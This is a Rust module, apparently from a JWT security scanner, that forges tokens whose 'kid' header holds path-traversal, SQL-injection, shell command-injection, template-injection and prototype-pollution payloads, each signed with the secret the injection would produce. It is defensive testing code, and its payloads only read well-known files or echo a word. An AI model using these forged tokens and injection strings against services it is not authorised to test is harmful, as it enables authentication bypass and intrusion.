//! `kid` as what it is not: a path, a query, a command, or not a text at all.
//!
//! Nothing here changes anything on the service's machine: files are read, a query selects a constant, a
//! command prints a word.

use super::{Class, Forge, Variants, mistake};
use crate::attempt::Attempt;
use crate::object::quoted;
use crate::token::Token;

pub(super) const CLASSES: &[Class] = &[
    mistake(
        "kid-path",
        "kid naming a file whose content everybody knows",
        "the key is read from a file that the token names",
        "RFC 8725 section 3.10; CWE-22",
        Forge::Token(kid_path),
    ),
    mistake(
        "kid-sql",
        "kid closing a string of a query and selecting a key of the attacker's own",
        "the key is looked up with a query that the token writes",
        "RFC 8725 section 3.10; CWE-89",
        Forge::Token(kid_sql),
    ),
    mistake(
        "kid-command",
        "kid ending a command and printing a key of the attacker's own",
        "the service runs what the token says",
        "RFC 8725 section 3.10; CWE-78",
        Forge::Token(kid_command),
    ),
    mistake(
        "kid-odd",
        "kid empty, endless, not a text, or a name that every object has",
        "a key that is not found becomes a secret that everybody knows",
        "RFC 7515 section 4.1.4; RFC 8725 section 3.10; CWE-1321",
        Forge::Token(kid_odd),
    ),
];

/// A word that is nobody's secret.
const WORD: &str = "gatepass";

fn authenticated(token: &Token, kid: &str, secret: &[u8]) -> String {
    let header = token.header.with("alg", r#""HS256""#).with("kid", kid);
    token.with_header(&header).authenticated("HS256", secret)
}

fn kid_path(token: &Token) -> Variants {
    // Every Linux has these, with these contents.
    const FILES: &[(&str, &[&str])] =
        &[("/dev/null", &[""]), ("/proc/sys/kernel/ostype", &["Linux\n", "Linux"])];
    let mut attempts = Vec::new();
    for (file, contents) in FILES {
        let up = format!("{}{}", "../".repeat(12), file.trim_start_matches('/'));
        let doubled = format!("{}{}", "....//".repeat(12), file.trim_start_matches('/'));
        let paths = [
            (*file).to_owned(),
            up.clone(),
            doubled,
            up.replace('/', "%2f"),
            format!("file://{file}"),
            format!("{up}\0"),
            format!("keys/{up}"),
        ];
        for path in paths {
            for content in *contents {
                let forged = authenticated(token, &quoted(&path), content.as_bytes());
                attempts.push(Attempt::token(format!("{path:?} with {content:?}"), forged));
            }
        }
    }
    Ok(attempts)
}

fn kid_sql(token: &Token) -> Variants {
    let mut attempts = Vec::new();
    for quote in ["'", "\""] {
        for close in ["", ")"] {
            // The last literal is closed by the query's own quote, or what follows is a comment.
            for end in ["", &format!("{quote}-- "), &format!("{quote}#")] {
                let kid = format!("x{quote}{close} UNION SELECT {quote}{WORD}{end}");
                attempts
                    .push(Attempt::token(kid.clone(), authenticated(token, &quoted(&kid), WORD.as_bytes())));
            }
        }
    }
    let number = format!("0 UNION SELECT '{WORD}'");
    attempts.push(Attempt::token(number.clone(), authenticated(token, &quoted(&number), WORD.as_bytes())));
    for kid in ["'", "\"", "x' OR '1'='1", "x' AND 1=CAST('x' AS int)-- ", "x'; SELECT 1-- ", "*)(uid=*"] {
        attempts.push(Attempt::token(kid, authenticated(token, &quoted(kid), b"")));
    }
    Ok(attempts)
}

fn kid_command(token: &Token) -> Variants {
    let print = format!("echo {WORD}");
    let kids = [
        format!("|{print}"),
        format!("| {print}"),
        format!("x; {print}"),
        format!("x;{print};#"),
        format!("x && {print}"),
        format!("x || {print}"),
        format!("x & {print}"),
        format!("x\n{print}"),
        format!("$({print})"),
        format!("`{print}`"),
        format!("'; {print}; '"),
        format!("\"; {print}; \""),
    ];
    let mut attempts = Vec::new();
    for kid in kids {
        for secret in [format!("{WORD}\n"), WORD.to_owned()] {
            let forged = authenticated(token, &quoted(&kid), secret.as_bytes());
            attempts.push(Attempt::token(format!("{kid:?} with {secret:?}"), forged));
        }
    }
    // A template that is evaluated gives 49, in whatever language.
    for kid in ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>"] {
        attempts.push(Attempt::token(kid, authenticated(token, &quoted(kid), b"49")));
    }
    Ok(attempts)
}

fn kid_odd(token: &Token) -> Variants {
    const NAMES: &[&str] = &[
        "",
        " ",
        "0",
        "-1",
        "null",
        "undefined",
        "none",
        "*",
        "%",
        ".",
        "..",
        "/",
        "\u{0}",
        "\u{0}\u{0}",
        "\n",
        "\u{feff}",
        "\u{d7ff}",
        "__proto__",
        "constructor",
        "prototype",
        "toString",
        "hasOwnProperty",
        "valueOf",
        "__class__",
        "default",
    ];
    const VALUES: &[&str] = &[
        "null",
        "true",
        "0",
        "1",
        "-1",
        "1e400",
        "[]",
        "[[]]",
        r#"["__proto__"]"#,
        "{}",
        r#"{"$ne":null}"#,
        r#"{"$gt":""}"#,
        r#""\ud800""#,
    ];
    let long = ["A".repeat(1000), "A".repeat(6000)];
    let names = NAMES.iter().map(|name| quoted(name)).chain(long.iter().map(|name| quoted(name)));
    let mut attempts = Vec::new();
    for kid in names.chain(VALUES.iter().map(|value| (*value).to_owned())) {
        let shown = if kid.len() > 64 { format!("{} characters", kid.len()) } else { kid.clone() };
        let good = token.with_header(&token.header.with("kid", kid.clone())).with_signature(&token.signature);
        attempts.push(Attempt::token(format!("{shown}, the good signature"), good));
        attempts.push(Attempt::token(format!("{shown}, an empty secret"), authenticated(token, &kid, b"")));
    }
    let good = token.with_header(&token.header.without("kid"));
    attempts.push(Attempt::token("no kid, the good signature", good.with_signature(&token.signature)));
    Ok(attempts)
}
